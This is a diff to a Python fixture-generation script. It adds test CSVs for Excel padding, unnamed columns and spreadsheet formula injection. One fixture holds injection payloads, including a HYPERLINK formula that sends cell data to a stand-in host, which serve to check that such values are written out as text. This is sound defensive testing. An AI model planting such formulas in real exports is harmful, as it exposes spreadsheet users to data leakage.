@@ -104,6 +104,30 @@ with open(os.path.join(here, "applicants.csv"), encoding="utf-8") as f:
 with open(os.path.join(here, "applicants_excel.csv"), "w", encoding="utf-8-sig", newline="") as f:
     f.write(text)
 
+# --- the same applicants as Excel leaves a sheet it once used wider and longer: unnamed columns
+# at the end of the header, rows padded with empty cells (some shorter than the header), a row
+# of separators only, blank lines, no newline after the last row
+with open(os.path.join(here, "applicants_excel_padded.csv"), "w", encoding="utf-8-sig", newline="") as f:
+    f.write("cadre_id,post,in_post_since,birth_date,grades,,,\r\n"
+            "A1,secretary,2010-01-01,1970-05-01,2014:excellent;2015:basic,,,\r\n"
+            ",,,,,,,\r\n"
+            "A2,director,2015-06-01,1970-05-01,,\r\n"
+            "\r\n"
+            "A3,both,2008-01-01,1950-01-01,\r\n"
+            "A4,secretary,2008-01-01,1975-01-01,2015:unqualified,,")
+
+# An unnamed column between named ones is no padding: the table is refused.
+with open(os.path.join(here, "applicants_unnamed_column.csv"), "w", encoding="utf-8", newline="") as f:
+    f.write("cadre_id,,post,in_post_since,birth_date,grades\nA1,x,secretary,2010-01-01,1970-05-01,\n")
+
+# Cadre ids a spreadsheet would run as formulas: echoed to the output CSV, they must arrive as text.
+write("applicants_formula.csv", ["cadre_id", "post", "in_post_since", "birth_date", "grades"], [
+    ["=HYPERLINK(\"http://example.invalid/\"&A1)", "secretary", "2010-01-01", "1970-05-01", ""],
+    ["+1+1", "secretary", "2010-01-01", "1970-05-01", ""],
+    ["@SUM(A1)", "secretary", "2010-01-01", "1970-05-01", ""],
+    ["-2", "secretary", "2010-01-01", "1970-05-01", ""],
+])
+
 # --- disclosure: the golden record with two planted problems (an area of 0, an unknown holder)
 import json, re
 golden = os.path.join(here, "..", "golden")
